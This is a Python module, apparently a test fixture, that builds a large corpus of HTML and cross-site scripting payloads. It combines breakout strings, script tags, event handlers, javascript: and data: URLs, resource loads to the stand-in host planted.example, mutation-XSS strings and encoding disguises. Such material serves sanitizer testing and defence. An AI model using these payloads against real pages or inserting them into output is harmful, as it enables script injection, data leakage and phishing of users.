"""What somebody could plant where a page shows words: made from parts, each part a class of attack.

What breaks out of where the words stand, times what would run or reach out, times how it is
disguised. What runs calls `planted()`; what reaches out goes to `FOREIGN`.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import chain
from urllib.parse import quote

FOREIGN = "//planted.example"
RUNS = "planted()"

BREAKS = (
    "",
    '">',
    "'>",
    "`>",
    '\\">',
    '" ',
    "' ",
    "-->",
    "--!>",
    "]]>",
    "*/",
    "}}",
    "%}",
    "\n\n",
    "</p>",
    "</a>",
    "</li>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</template>",
    "</noscript>",
    "</select>",
    "</option></select>",
    "</button></form>",
    "</svg>",
    "</math>",
    "</iframe>",
    "</xmp>",
    "</blockquote></mark>",
)
"""What ends an attribute, a comment, a template or an element, and begins anew after it."""

SCRIPTS = (
    f"<script>{RUNS}</script>",
    f"<script src={FOREIGN}/x.js></script>",
    f"<script type=module>{RUNS}</script>",
    f"<script/x>{RUNS}</script>",
    f"<script x='>'>{RUNS}</script y>",
    f"<<script>{RUNS}//<</script>",
    f"<script>{RUNS}",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><script href='data:,{RUNS}'/></svg>",
    f"<svg><script xlink:href={FOREIGN}/x.js></script></svg>",
    f"<math><script>{RUNS}</script></math>",
    f"<template><script>{RUNS}</script></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={RUNS}></template></div>",
)
HANDLERS = (
    f"<img src=x onerror={RUNS}>",
    f"<img src=x:x onerror='{RUNS}'>",
    f"<image src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={RUNS} attributeName=x></svg>",
    f"<body onload={RUNS}>",
    f"<body onpageshow={RUNS}>",
    f"<details open ontoggle={RUNS}>x</details>",
    f"<input autofocus onfocus={RUNS}>",
    f"<select autofocus onfocus={RUNS}>",
    f"<textarea autofocus onfocus={RUNS}></textarea>",
    f"<a href=# tabindex=1 onfocus={RUNS} autofocus>x</a>",
    f"<video src=x onerror={RUNS}></video>",
    f"<video><source onerror={RUNS}></video>",
    f"<audio src=x onerror={RUNS}></audio>",
    f"<marquee onstart={RUNS}>x</marquee>",
    f"<object data=x onerror={RUNS}></object>",
    f"<style onload={RUNS}></style>",
    f"<link rel=stylesheet href=x onerror={RUNS}>",
    f"<iframe onload={RUNS}></iframe>",
    f"<div onpointerover={RUNS}>x</div>",
    f"<b onclick={RUNS}>x</b>",
    f"<x-y onanimationend={RUNS} style=animation:sweep>x</x-y>",
    f"<p contenteditable onbeforeinput={RUNS}>x</p>",
    f"<dialog open onclose={RUNS}>x</dialog>",
    f"<input type=hidden oncontentvisibilityautostatechange={RUNS} style=content-visibility:auto>",
    f" onmouseover={RUNS} x=",
    f" autofocus onfocus={RUNS} x=",
    f" style=x:expression({RUNS}) x=",
)
ADDRESSES = (
    f"javascript:{RUNS}",
    f"JaVaScRiPt:{RUNS}",
    f" javascript:{RUNS}",
    f"java\tscript:{RUNS}",
    f"java\nscript:{RUNS}",
    f"\x01javascript:{RUNS}",
    f"javascript&colon;{RUNS}",
    f"&#106;avascript:{RUNS}",
    f"vbscript:{RUNS}",
    f"view-source:javascript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    "data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCk8L3NjcmlwdD4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUNS}'/>",
    "blob:null/x",
    f"{FOREIGN}/x",
    f"https:{FOREIGN}/x",
    f"\\\\{FOREIGN[2:]}/x",
    f"/\\{FOREIGN[2:]}/x",
    f"/\t{FOREIGN}/x",
    "https:planted.example",
)
PLACES: tuple[Callable[[str], str], ...] = (
    lambda to: f'<a href="{to}">x</a>',
    lambda to: f'<iframe src="{to}"></iframe>',
    lambda to: f'<form action="{to}"><button>x</button></form>',
    lambda to: f'<button form=ask formaction="{to}">x</button>',
    lambda to: f'<object data="{to}"></object>',
    lambda to: f'<embed src="{to}">',
    lambda to: f'<svg><a xlink:href="{to}"><text>x</text></a></svg>',
    lambda to: f'<svg><use href="{to}#x"/></svg>',
    lambda to: f'<math href="{to}"><mi>x</mi></math>',
    lambda to: f'<base href="{to}">',
    lambda to: f'<meta http-equiv=refresh content="0;url={to}">',
    lambda to: f'<area href="{to}" shape=default>',
    lambda to: f"[x]({to})",
    lambda to: f"[x]: <{to}>",
    lambda to: to,
)
REACHES = (
    f"<img src={FOREIGN}/p.png>",
    f"<img srcset='{FOREIGN}/p.png 1x'>",
    f"<picture><source srcset={FOREIGN}/p.png><img></picture>",
    f"<a href=/ ping={FOREIGN}>x</a>",
    f"<link rel=stylesheet href={FOREIGN}/a.css>",
    f"<link rel=preload as=image href={FOREIGN}/a.png>",
    f"<link rel=dns-prefetch href={FOREIGN}>",
    f"<link rel=manifest href={FOREIGN}/m.json>",
    f"<style>@import '{FOREIGN}/a.css';</style>",
    f"<style>*{{background:url({FOREIGN}/p)}}</style>",
    f"<style>input[value^=a]{{background:url({FOREIGN}/a)}}</style>",
    f"<div style=\"background:url('{FOREIGN}/p')\">x</div>",
    "<div style='position:fixed;inset:0;z-index:99'>Sign in again</div>",
    f"<table background={FOREIGN}/p.png><tr><td>x</table>",
    f"<video poster={FOREIGN}/p.png></video>",
    f"<input type=image src={FOREIGN}/p.png>",
    f"<svg><image href={FOREIGN}/p.png /></svg>",
    f"<svg><feImage href={FOREIGN}/p.png /></svg>",
    f"<svg><style>@import '{FOREIGN}/a.css'</style></svg>",
    f"<iframe srcdoc=\"<img src='{FOREIGN}/p.png'>\"></iframe>",
    f"<iframe srcdoc='&lt;script&gt;{RUNS}&lt;/script&gt;'></iframe>",
    f"![x]({FOREIGN}/p.png)",
    f"![x][1]\n\n[1]: {FOREIGN}/p.png",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{FOREIGN}/y'>]><x>&y;</x>",
    f"<?xml-stylesheet href='{FOREIGN}/a.css'?>",
    f'=HYPERLINK("https:{FOREIGN}","x")',
)
MUTATES = (
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUNS}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUNS}>",
    f"<table><td><svg><desc><td></desc><img src=x onerror={RUNS}>",
    f"<select><template><style><!--</style><img src=x onerror={RUNS}>--></select>",
    f"<!--<img src='--><img src=x onerror={RUNS}//'>",
    f"<![CDATA[<img src=x onerror={RUNS}>]]>",
    f"<xmp><p title='</xmp><img src=x onerror={RUNS}>'>",
    f"<svg><foreignObject><body><img src=x onerror={RUNS}></body></foreignObject></svg>",
    f"<a id=x><a id=x name=y href=javascript:{RUNS}>x</a>",
    "<form id=main><input name=attributes><input name=parentNode>",
    f"{{{{ {RUNS} }}}}{{% raw %}}${{{RUNS}}}<%= {RUNS} %>",
    f"__proto__[innerHTML]=<img src=x onerror={RUNS}>",
)


def _spaced(text: str) -> str:
    return text.replace(" ", "\x0c").replace("<img", "<img/x")


def _entities(text: str) -> str:
    return "".join(f"&#{ord(each)}" if each in "<>\"'" else each for each in text)


def _wide(text: str) -> str:
    return "".join(chr(ord(each) + 0xFEE0) if each in "<>\"'/=()" else each for each in text)


DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    str.upper,
    str.swapcase,
    _spaced,
    _entities,
    _wide,
    quote,
    lambda text: quote(quote(text)),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("i", "i\u200b"),
    lambda text: f"\u202e{text}\u2066",
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace(" ", "\r\n"),
    lambda text: f"\ufeff{text}\u0085",
)
"""Other letters for the same: case, spaces, entities, look-alikes, encodings, nothing and turns."""


def plants() -> tuple[str, ...]:
    """Return every class in every disguise, and what breaks out before one of each."""
    in_places = (place(to) for place in PLACES for to in ADDRESSES)
    bare = tuple(chain(SCRIPTS, HANDLERS, REACHES, MUTATES, in_places))
    breaking = (
        f"{one}{what}" for one in BREAKS for what in (SCRIPTS[0], HANDLERS[0], HANDLERS[-2])
    )
    return tuple(dict.fromkeys(chain(bare, breaking, _disguised())))


def _disguised() -> Iterator[str]:
    for disguise in DISGUISES:
        yield from map(disguise, (*SCRIPTS[:3], *HANDLERS[:5], *REACHES[:4], *MUTATES[:3]))
        yield from (disguise(PLACES[0](to)) for to in ADDRESSES[:4])
